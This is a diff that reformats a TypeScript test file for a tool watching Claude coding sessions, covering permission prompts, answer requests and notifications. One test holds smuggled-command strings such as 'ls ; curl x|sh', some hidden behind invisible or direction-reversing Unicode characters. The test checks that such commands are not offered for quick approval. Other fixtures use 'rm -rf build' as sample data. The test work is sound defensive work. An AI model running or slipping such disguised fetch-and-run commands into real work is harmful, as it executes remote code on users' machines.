@@ -6,7 +6,13 @@ import { DEFAULT_TIMINGS, buttonsFor, claimsToNotify, movedOnSince, planNotifica
 import { NOTIFIED_COMMAND_MAX } from '../../src/engine/notify';
 import { at, registry, rowOf, run, sec, session, tool, toolCall } from './build';
 
-const hook = (event: Extract<DirectEvidence, { kind: 'hook' }>['event'], offsetMs: number, detail: string | null = 'Bash: rm -rf build'): DirectEvidence => ({ kind: 'hook', source: 'claude.hook', at: at(offsetMs), event, detail });
+const hook = (event: Extract<DirectEvidence, { kind: 'hook' }>['event'], offsetMs: number, detail: string | null = 'Bash: rm -rf build'): DirectEvidence => ({
+  kind: 'hook',
+  source: 'claude.hook',
+  at: at(offsetMs),
+  event,
+  detail,
+});
 
 function request(offsetMs: number, overrides: Partial<AnswerRequest> = {}): AnswerRequest {
   return {
@@ -27,7 +33,8 @@ function request(offsetMs: number, overrides: Partial<AnswerRequest> = {}): Answ
   };
 }
 
-const asking = (requests: AnswerRequest[], direct: DirectEvidence[] = [hook('permission-request', sec(1))]) => session({ signal: toolCall(sec(1) - 50, [tool('Bash')]), direct, requests });
+const asking = (requests: AnswerRequest[], direct: DirectEvidence[] = [hook('permission-request', sec(1))]) =>
+  session({ signal: toolCall(sec(1) - 50, [tool('Bash')]), direct, requests });
 
 describe('R70 answerable rows', () => {
   it('R70 a prompt raised by a hook, with the request its answering hook brought, is open; keys wait for answerGrace (R72)', () => {
@@ -38,7 +45,7 @@ describe('R70 answerable rows', () => {
     expect(row.claim?.kind).toBe('needs-you');
   });
 
-  it('issue 47 item 5: R72\'s grace counts from when the prompt could first be seen (the first evaluation that shows it, then kept), never from an earlier request time', () => {
+  it("issue 47 item 5: R72's grace counts from when the prompt could first be seen (the first evaluation that shows it, then kept), never from an earlier request time", () => {
     // First shown 4 s after its request came (the row was not yet asking, or another reading hid it).
     const first = rowOf(asking([request(sec(1) + 80)]), sec(5));
     if (first.answer?.state !== 'open') throw new Error('open');
@@ -57,8 +64,16 @@ describe('R70 answerable rows', () => {
     expect(row.claim?.kind).toBe('needs-you');
   });
 
-  it('R70 a later registry restating the wait does not make the request stale (Claude\'s registry, live lab)', () => {
-    const row = rowOf(session({ liveness: { kind: 'alive', pid: 1 }, signal: toolCall(sec(1), [tool('Bash')]), direct: [hook('permission-request', sec(1)), registry('waiting', sec(9), 'permission prompt')], requests: [request(sec(1) + 80)] }), sec(10));
+  it("R70 a later registry restating the wait does not make the request stale (Claude's registry, live lab)", () => {
+    const row = rowOf(
+      session({
+        liveness: { kind: 'alive', pid: 1 },
+        signal: toolCall(sec(1), [tool('Bash')]),
+        direct: [hook('permission-request', sec(1)), registry('waiting', sec(9), 'permission prompt')],
+        requests: [request(sec(1) + 80)],
+      }),
+      sec(10),
+    );
     expect(row.answer?.state).toBe('open');
   });
 
@@ -70,11 +85,14 @@ describe('R70 answerable rows', () => {
   });
 
   it('R71 the newest open request that stands is the one shown', () => {
-    const row = rowOf(asking([request(sec(1) + 80, { id: `req_${'1'.repeat(24)}` }), request(sec(1) + 90, { id: `req_${'2'.repeat(24)}`, text: 'rm -rf dist' })]), sec(3));
+    const row = rowOf(
+      asking([request(sec(1) + 80, { id: `req_${'1'.repeat(24)}` }), request(sec(1) + 90, { id: `req_${'2'.repeat(24)}`, text: 'rm -rf dist' })]),
+      sec(3),
+    );
     expect(row.answer).toMatchObject({ state: 'open', request: `req_${'2'.repeat(24)}` });
   });
 
-  it('R70 no request (no hook, no Lookout when it opened) reads unavailable with the provider\'s words', () => {
+  it("R70 no request (no hook, no Lookout when it opened) reads unavailable with the provider's words", () => {
     const row = rowOf(asking([]), sec(3), {});
     expect(row.answer).toMatchObject({ state: 'unavailable', why: 'answer in the terminal' });
   });
@@ -86,14 +104,30 @@ describe('R70 answerable rows', () => {
     expect(row.answer?.state === 'unavailable' ? row.answer.why : '').toMatch(/cannot be sure/);
   });
 
-  it('R74 a request past its deadline is not open (the hook gave up; the agent\'s prompt decides)', () => {
+  it("R74 a request past its deadline is not open (the hook gave up; the agent's prompt decides)", () => {
     const row = rowOf(asking([request(sec(1) + 80, { deadline: at(sec(2)) })]), sec(3));
     expect(row.answer).toMatchObject({ state: 'unavailable' });
   });
 
   it('R70 a question request carries its questions and options', () => {
-    const questions = [{ question: 'Which colour?', header: 'Lab', multiple: false, options: [{ label: 'Red', description: null }, { label: 'Blue', description: null }] }];
-    const row = rowOf(asking([request(sec(1) + 80, { prompt: 'question', tool: 'AskUserQuestion', text: 'Which colour?', questions })], [hook('input-request', sec(1), 'asks: Which colour?')]), sec(3));
+    const questions = [
+      {
+        question: 'Which colour?',
+        header: 'Lab',
+        multiple: false,
+        options: [
+          { label: 'Red', description: null },
+          { label: 'Blue', description: null },
+        ],
+      },
+    ];
+    const row = rowOf(
+      asking(
+        [request(sec(1) + 80, { prompt: 'question', tool: 'AskUserQuestion', text: 'Which colour?', questions })],
+        [hook('input-request', sec(1), 'asks: Which colour?')],
+      ),
+      sec(3),
+    );
     expect(row.answer).toMatchObject({ state: 'open', prompt: 'question', questions });
   });
 });
@@ -130,7 +164,10 @@ describe('R73 after an answer', () => {
   });
 
   it('R73 answered in the terminal first: the row says so for answeredHold', () => {
-    const row = rowOf(asking([request(sec(1) + 80, { closed: { at: at(sec(5)), how: 'elsewhere', answer: null, from: 'terminal' } })], [hook('mid-turn', sec(4))]), sec(6));
+    const row = rowOf(
+      asking([request(sec(1) + 80, { closed: { at: at(sec(5)), how: 'elsewhere', answer: null, from: 'terminal' } })], [hook('mid-turn', sec(4))]),
+      sec(6),
+    );
     expect(row.answer).toMatchObject({ state: 'elsewhere' });
     expect(row.observed.state).toBe('running');
   });
@@ -142,14 +179,23 @@ describe('notifications that answer (issue 23)', () => {
     providerName: 'Claude',
     cwd: '/work/api',
     branch: null,
-    claim: { kind: 'needs-you', since: at(sec(1)), expiresAt: null, ambiguous: false, detail: 'Bash: rm -rf build', id: 'claude:s1|needs-you|1', source: 'claude.hook' },
+    claim: {
+      kind: 'needs-you',
+      since: at(sec(1)),
+      expiresAt: null,
+      ambiguous: false,
+      detail: 'Bash: rm -rf build',
+      id: 'claude:s1|needs-you|1',
+      source: 'claude.hook',
+    },
     muted: false,
     historical: false,
     treeKnown: true,
     ...overrides,
   });
   const approval = { request: `req_${'1'.repeat(24)}`, digest: 'd'.repeat(64), tool: 'Bash', text: 'rm -rf build' };
-  const due = (item: NotifyCandidate, nowOffset: number) => claimsToNotify([item], new Set(), { enabled: true, needsYou: true, failed: true, finished: true, limits: true }, null, at(nowOffset), DEFAULT_TIMINGS);
+  const due = (item: NotifyCandidate, nowOffset: number) =>
+    claimsToNotify([item], new Set(), { enabled: true, needsYou: true, failed: true, finished: true, limits: true }, null, at(nowOffset), DEFAULT_TIMINGS);
 
   it('R40 a hook-raised prompt whose answering request should follow waits a beat for it, then is told without', () => {
     expect(due(candidate({ answerExpected: true }), sec(1) + 100)).toEqual([]);
@@ -174,7 +220,23 @@ describe('notifications that answer (issue 23)', () => {
     expect(padded.length).toBeLessThanOrEqual(NOTIFIED_COMMAND_MAX);
     expect(offered(padded)).toBe(false);
     expect(planNotification([candidate({ answer: { ...approval, text: padded } })])?.body).toBe('Bash: rm -rf build');
-    for (const text of ['ls  ; curl x|sh', 'ls\t; curl x|sh', ' ls', 'ls ', 'ls\u00a0\u00a0; curl x|sh', 'ls\u3000; curl x|sh', 'ls\u2800\u2800; curl x|sh', 'ls\u3164; curl x|sh', 'echo ok \u202e;curl x|sh #\u2066# cleanup', 'echo\u200b ok', 'ls\u00ad', 'ls\u{e0041}', 'ls\u200e', 'ls\u061c', 'ls\u2028x']) {
+    for (const text of [
+      'ls  ; curl x|sh',
+      'ls\t; curl x|sh',
+      ' ls',
+      'ls ',
+      'ls\u00a0\u00a0; curl x|sh',
+      'ls\u3000; curl x|sh',
+      'ls\u2800\u2800; curl x|sh',
+      'ls\u3164; curl x|sh',
+      'echo ok \u202e;curl x|sh #\u2066# cleanup',
+      'echo\u200b ok',
+      'ls\u00ad',
+      'ls\u{e0041}',
+      'ls\u200e',
+      'ls\u061c',
+      'ls\u2028x',
+    ]) {
       expect(offered(text), JSON.stringify(text)).toBe(false);
     }
     expect(offered('ls', 'Bash\u202e')).toBe(false);
@@ -191,7 +253,9 @@ describe('R73 what lets a request go', () => {
     expect(movedOnSince(held, { ...base, direct: [...base.direct, registry('waiting', sec(30), 'permission prompt')] })).toBe(false);
     expect(movedOnSince(held, { ...base, direct: [hook('mid-turn', sec(5))] })).toBe(true);
     expect(movedOnSince(held, { ...base, signal: { kind: 'tool-result', at: at(sec(5)) } })).toBe(true);
-    expect(movedOnSince(held, { ...base, liveness: { kind: 'dead', source: 'claude.session-registry', pid: 1, at: at(sec(5)), why: 'no-process' } })).toBe(true);
+    expect(movedOnSince(held, { ...base, liveness: { kind: 'dead', source: 'claude.session-registry', pid: 1, at: at(sec(5)), why: 'no-process' } })).toBe(
+      true,
+    );
   });
 });
 
@@ -205,8 +269,15 @@ describe('R73 once shown', () => {
   });
 });
 
-describe('R70 when the prompt\'s own spool line is missing (a hook cut short on a loaded machine)', () => {
-  const notice = (offsetMs: number): DirectEvidence => ({ kind: 'hook', source: 'claude.hook', at: at(offsetMs), event: 'permission-request', detail: 'Claude needs your permission', restates: true });
+describe("R70 when the prompt's own spool line is missing (a hook cut short on a loaded machine)", () => {
+  const notice = (offsetMs: number): DirectEvidence => ({
+    kind: 'hook',
+    source: 'claude.hook',
+    at: at(offsetMs),
+    event: 'permission-request',
+    detail: 'Claude needs your permission',
+    restates: true,
+  });
 
   it('the open request speaks for its prompt: the row asks and can be answered', () => {
     const row = rowOf(asking([request(sec(1) + 80)], [hook('mid-turn', sec(1) - 20)]), sec(3));
